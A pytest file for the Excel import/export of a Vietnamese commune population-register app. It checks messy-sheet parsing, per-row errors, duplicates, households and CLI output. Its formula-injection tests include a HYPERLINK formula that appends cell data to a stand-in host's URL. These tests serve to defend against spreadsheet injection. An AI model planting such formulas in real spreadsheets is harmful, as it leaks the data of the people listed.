"""Excel in and out: messy spreadsheets give the right per-row errors; exported files import again."""

from __future__ import annotations

import json
import shutil
import subprocess
import unicodedata
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from kbang_desktop.cli.main import main
from kbang_desktop.core.errors import KbangError
from kbang_desktop.documents.excel import read_sheet, write_persons
from kbang_desktop.services.person_import import parse_mapping, recognise
from kbang_desktop.services.registry import open_services


def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def _messy(path):
    """A register as communes keep them: a merged title, two header rows, blank rows, text numbers, NFD."""
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "DANH SÁCH NGƯỜI TRONG ĐỘ TUỔI 15-60 LÀNG KON KƠ TU"
    sheet.merge_cells("A1:H1")
    headers = ["STT", "Ho ten", "Năm sinh", "Giới tính", None, "Dan toc", "Thôn/Làng ", "Trình độ"]
    for column, text in enumerate(headers, 1):
        sheet.cell(row=3, column=column, value=text)
    sheet.merge_cells("D3:E3")
    for column in (1, 2, 3, 6, 7, 8):
        sheet.merge_cells(start_row=3, start_column=column, end_row=4, end_column=column)
    sheet["D4"], sheet["E4"] = "Nam", "Nữ"
    rows = [
        (1, "Đinh Văn Hmưk  ", 1980, "x", None, "Bahnar", "Làng Kon Kơ Tu ", "3/12"),  # 5
        (2, _nfd("Đinh Thị Bŏk"), "1985", None, "x", "Ba Na", "Làng Kon Kơ Tu", "Không"),  # 6: NFD, text year
        None,  # 7: blank
        (3, "Rơ Châm Hlim", "5/2/78", None, "X", "Jrai", "Làng Kon Kơ Tu", ""),  # 8: d/m/yy
        (4, "Ksor Hyuh", 32874, "x", None, "10", "Làng Kon Kơ Tu", ""),  # 9: Excel serial (1990-01-01)
        (5, "Đinh Văn Mơ", "31/02/1990", "x", None, "Ba Na", "Làng Kon Kơ Tu", ""),  # 10: impossible date
        (6, "Nguyễn Văn An", datetime(1975, 3, 4), "x", None, "Xyz", "Làng Kon Kơ Tu", ""),  # 11: unknown group
        (7, "", 1990, None, "x", "Kinh", "Làng Kon Kơ Tu", ""),  # 12: no name
        (8, "Đinh Thị Bŏk", 1985, None, "x", "13", "Làng Kon Kơ Tu", ""),  # 13: same as row 6
        (9, "Rơ Mah Blơng", 1992, "x", "x", "Gia Rai", "Làng Kon Kơ Tu", ""),  # 14: both sexes marked
        None, None,  # 15, 16
        (10, "Kpă Thị Nga", " 2001 ", None, "x", " kinh ", "Làng Kon Kơ Tu", "9/12"),  # 17: spaces
    ]
    for number, row in enumerate(rows, 5):
        if row:
            for column, value in enumerate(row, 1):
                sheet.cell(row=number, column=column, value=value)
    book.save(path)


def test_headers_in_vietnamese_with_or_without_diacritics():
    for text, field in (("Họ và tên", "full_name"), ("Ho ten", "full_name"), ("HỌ VÀ TÊN", "full_name"),
                        ("Ngày sinh", "birth"), ("Năm sinh", "birth"), ("Giới tính", "sex"), ("Nữ", "female"),
                        ("Dân tộc", "ethnic"), ("Thôn/Làng", "village"), ("Hộ số", "household"),
                        ("Trình độ", "education"), ("STT", ""), ("Ngày sinh ", "birth"), ("Điểm", None)):
        assert recognise(text) == field, text
    assert recognise("Tên đầy đủ", parse_mapping(["Tên đầy đủ=full_name"])) == "full_name"
    with pytest.raises(KbangError):
        parse_mapping(["Tên=nothing"])


def test_messy_spreadsheet_gives_per_row_errors_and_saves_nothing(services, tmp_path):
    _messy(tmp_path / "ds.xlsx")
    rows, headers = read_sheet(tmp_path / "ds.xlsx")
    assert [r.number for r in rows] == [5, 6, 8, 9, 10, 11, 12, 13, 14, 17]  # blank rows skipped
    before = services.persons.count()
    outcome = services.person_import.import_rows(rows, headers, create_villages=True)
    assert outcome.status == "rejected" and outcome.created == 0
    found = {(e.row, e.column): e.message for e in outcome.errors}
    assert set(found) == {(10, "Năm sinh"), (11, "Dan toc"), (12, "Ho ten"), (14, "Nữ")}, found
    assert found[(10, "Năm sinh")] == "Ngày không có thật trên lịch."
    assert services.persons.count() == before
    assert [d["row"] for d in outcome.duplicates] == [13] and outcome.duplicates[0]["same_as_row"] == 6


def test_skip_invalid_saves_the_good_rows_exactly(services, tmp_path):
    _messy(tmp_path / "ds.xlsx")
    rows, headers = read_sheet(tmp_path / "ds.xlsx")
    outcome = services.person_import.import_rows(rows, headers, skip_invalid=True, create_villages=True)
    assert outcome.status == "imported" and outcome.created == 5 and outcome.skipped == 4
    people = {p.full_name: p for p in services.persons.list("Kông Bơ La")}
    people = {p.full_name: services.persons.get(p.id) for p in people.values()}
    assert set(people) == {"Đinh Văn Hmưk", "Đinh Thị Bŏk", "Rơ Châm Hlim", "Ksor Hyuh", "Kpă Thị Nga"}
    bok = people["Đinh Thị Bŏk"]
    assert bok.full_name == unicodedata.normalize("NFC", bok.full_name) and bok.sex == "F"
    assert (bok.birth_year, bok.birth_date, bok.ethnic_code) == (1985, None, "13")
    assert people["Rơ Châm Hlim"].birth_date == date(1978, 2, 5) and people["Rơ Châm Hlim"].ethnic_code == "10"
    assert people["Ksor Hyuh"].birth_date == date(1990, 1, 1) and people["Ksor Hyuh"].sex == "M"
    assert people["Kpă Thị Nga"].ethnic_code == "01" and people["Kpă Thị Nga"].education == "9/12"
    assert people["Đinh Văn Hmưk"].education == "3/12"
    # importing the same file again creates nobody twice
    again = services.person_import.import_rows(rows, headers, skip_invalid=True, create_villages=True)
    assert again.created == 0 and {d["row"] for d in again.duplicates} >= {5, 6, 8, 9, 13, 17}


def test_export_then_import_elsewhere_round_trips(services, tmp_path):
    services.persons.add("Đinh Văn Hmưk", "M", "12/03/1980", "Ba Na", "Kông Bơ La", "Làng Kon Kơ Tu",
                         literacy_level=1, literacy_date=date(2020, 5, 1), id_number="064080001234", disability=True)
    services.persons.add("Rơ Châm Hlim", "F", "1950", "Gia Rai", "Kông Bơ La", "Làng A", exempt=True,
                         note="Ở với con")
    headers, rows = services.person_import.export_rows()
    assert "Số định danh cá nhân" not in headers and "Khuyết tật" not in headers  # sensitive: only when asked
    write_persons(tmp_path / "p.xlsx", headers, rows, "Danh sách")
    sheet = load_workbook(tmp_path / "p.xlsx").active
    hmuk_row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Đinh Văn Hmưk")
    assert sheet.freeze_panes == "B2" and hmuk_row[1].is_date  # a real date, not text
    assert "064080001234" not in [c.value for row in sheet.iter_rows() for c in row]
    other = open_services(tmp_path / "other.db")
    other.offices.initialise("commune", "UBND xã Kông Bơ La (máy 2)", "Kông Bơ La")
    read_rows, read_headers = read_sheet(tmp_path / "p.xlsx")
    outcome = other.person_import.import_rows(read_rows, read_headers, create_villages=True)
    assert outcome.status == "imported" and outcome.created == 2 and not outcome.errors
    copied = {p.full_name: other.persons.get(p.id) for p in other.persons.list("Kông Bơ La")}
    hmuk = copied["Đinh Văn Hmưk"]
    assert (hmuk.birth_date, hmuk.ethnic_code, hmuk.literacy_level, hmuk.literacy_date) == (
        date(1980, 3, 12), "13", 1, date(2020, 5, 1))
    hlim = copied["Rơ Châm Hlim"]
    assert (hlim.birth_year, hlim.birth_date, hlim.exempt, hlim.note, hlim.sex) == (1950, None, True, "Ở với con", "F")
    other.ctx.db.close()


def test_cli_import_and_export(services, db_path, tmp_path, capsys):
    _messy(tmp_path / "ds.xlsx")
    services.ctx.db.close()
    assert main(["--db", str(db_path), "import", "persons", str(tmp_path / "ds.xlsx"), "--create-villages",
                 "--json"]) == 1
    result = json.loads(capsys.readouterr().out)
    assert result["status"] == "rejected" and result["rows"] == 10 and result["created"] == 0
    assert {"row": 10, "column": "Năm sinh", "message": "Ngày không có thật trên lịch."} in result["errors"]
    assert main(["--db", str(db_path), "import", "persons", str(tmp_path / "ds.xlsx"), "--dry-run",
                 "--skip-invalid", "--create-villages", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "dry-run"
    assert main(["--db", str(db_path), "import", "persons", str(tmp_path / "ds.xlsx"), "--skip-invalid",
                 "--create-villages", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert (result["status"], result["created"], result["duplicates"]) == ("imported", 5, 1)
    assert main(["--db", str(db_path), "export", "persons", "--out", str(tmp_path / "out.xlsx"), "--sensitive",
                 "--json"]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert exported["rows"] == 5 and "Số định danh cá nhân" in exported["columns"]
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a zip")
    assert main(["--db", str(db_path), "import", "persons", str(broken)]) == 1
    assert "không phải là bảng tính Excel" in capsys.readouterr().err
    no_header = tmp_path / "plain.xlsx"
    book = Workbook()
    book.active["A1"] = "xin chào"
    book.save(no_header)
    assert main(["--db", str(db_path), "import", "persons", str(no_header)]) == 1
    assert "Họ và tên" in capsys.readouterr().err
    assert main(["--db", str(db_path), "import", "persons", str(tmp_path / "old.xls")]) == 1
    assert ".xlsx" in capsys.readouterr().err


def test_headers_the_file_names_its_own_way_are_mapped(services, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Tên đầy đủ", "NS", "Giới", "Dân tộc", "Thôn"])
    sheet.append(["Đinh Văn Hmưk", "1980", "Nam", "Ba Na", "Làng A"])
    book.save(tmp_path / "m.xlsx")
    with pytest.raises(KbangError, match="Họ và tên"):
        read_sheet(tmp_path / "m.xlsx")
    rows, headers = read_sheet(tmp_path / "m.xlsx", parse_mapping(["Tên đầy đủ=full_name", "NS=birth"]))
    assert services.person_import.import_rows(rows, headers, create_villages=True).created == 1


def test_household_numbers_make_households_with_their_head(services, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Họ và tên", "Năm sinh", "Giới tính", "Dân tộc", "Thôn/Làng", "Hộ số", "Quan hệ với chủ hộ"])
    sheet.append(["Đinh Thị Bŏk", 1990, "Nữ", "Ba Na", "Làng A", "7", "Vợ"])
    sheet.append(["Đinh Văn Hmưk", 1988, "Nam", "Ba Na", "Làng A", "7", "Chủ hộ"])
    sheet.append(["Đinh Văn Ơn", 2012, "Nam", "Ba Na", "Làng A", "7", "Con"])
    sheet.append(["Rơ Châm Hlim", 1950, "Nữ", "Gia Rai", "Làng B", "7", ""])
    book.save(tmp_path / "ho.xlsx")
    rows, headers = read_sheet(tmp_path / "ho.xlsx")
    assert services.person_import.import_rows(rows, headers, create_villages=True).created == 4
    people = {p.full_name: services.persons.get(p.id) for p in services.persons.list("Kông Bơ La")}
    household = people["Đinh Văn Ơn"].household_id
    assert household and people["Đinh Thị Bŏk"].household_id == household == people["Đinh Văn Hmưk"].household_id
    assert people["Rơ Châm Hlim"].household_id not in (None, household)  # number 7 of another village
    heads = {h.id: h.head_person_id for h in services.households.list(people["Đinh Văn Ơn"].commune_id)}
    assert heads[household] == people["Đinh Văn Hmưk"].id
    assert heads[people["Rơ Châm Hlim"].household_id] == people["Rơ Châm Hlim"].id


FORMULA_NAMES = ['=HYPERLINK("http://example.invalid/?"&B2,"Bấm vào đây")', "+Y Bình", "-Y Hoa", "@SUM(Y Nga)",
                 "=1+Y"]


def _formula_cells(path):
    """(cells written as formulas, cells whose text begins with a formula sign but lacks the quote prefix)."""
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    return ([c.coordinate for c in cells if c.data_type == "f"],
            [c.coordinate for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r" and not c.quotePrefix])


def test_names_that_look_like_formulas_are_written_and_read_back_as_text(services, tmp_path):
    for name in FORMULA_NAMES:
        services.persons.add(name, "F", "1990", "Ba Na", "Kông Bơ La", "=Làng Mới")
    headers, rows = services.person_import.export_rows()
    rows.append([None] * len(headers))
    rows[-1][0], rows[-1][1] = "\tTab Đầu", "\rVề Đầu"  # straight into the writer: the form trims these
    write_persons(tmp_path / "p.xlsx", headers, rows[:-1] + [rows[-1]], "Danh sách")
    assert _formula_cells(tmp_path / "p.xlsx") == ([], [])
    read_rows, read_headers = read_sheet(tmp_path / "p.xlsx")
    names = {r.cells["full_name"][0] for r in read_rows}
    assert set(FORMULA_NAMES) <= names and "\tTab Đầu" in names
    write_persons(tmp_path / "again.xlsx", headers, rows[:-1], "Danh sách")
    other = open_services(tmp_path / "other.db")
    other.offices.initialise("commune", "UBND xã Kông Bơ La (máy 2)", "Kông Bơ La")
    outcome = other.person_import.import_rows(*read_sheet(tmp_path / "again.xlsx"), create_villages=True)
    assert outcome.status == "imported" and outcome.created == len(FORMULA_NAMES), outcome.errors
    people = other.persons.list("Kông Bơ La")
    assert sorted(p.full_name for p in people) == sorted(FORMULA_NAMES)
    assert {p.village for p in people} == {"=Làng Mới"}
    other.ctx.db.close()


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_formula_like_names_as_text(tmp_path):
    names = ["=1+1", "+2+2", "-3+3", "@SUM(4)", "=HYPERLINK(\"http://example.invalid\",\"x\")"]
    write_persons(tmp_path / "p.xlsx", ["Họ và tên"], [[n] for n in names], "Danh sách")
    subprocess.run(["libreoffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(tmp_path), str(tmp_path / "p.xlsx")], check=True, capture_output=True, timeout=120)
    lines = (tmp_path / "p.csv").read_text(encoding="utf-8").splitlines()
    assert [line.strip('"').replace('""', '"') for line in lines[1:]] == names  # not 2, 4, 0, 4 or "x"
